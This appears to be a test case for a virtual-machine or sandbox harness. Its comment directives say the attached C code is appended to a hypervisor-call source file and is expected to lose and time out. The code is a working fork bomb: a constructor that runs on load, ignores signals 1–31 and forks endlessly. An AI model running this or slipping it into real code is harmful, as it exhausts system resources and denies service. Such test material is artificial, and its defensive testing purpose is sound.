//@ why Each of its processes makes another one, and never ends.
//@ loses all
//@ ends timed out
//@ append vmm/call/hc_scramble.c
#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void
attack(void)
{
    for (int i = 1; i < 32; i++)
        signal(i, SIG_IGN);
    for (;;)
        if (fork() == 0)
            setsid();
}
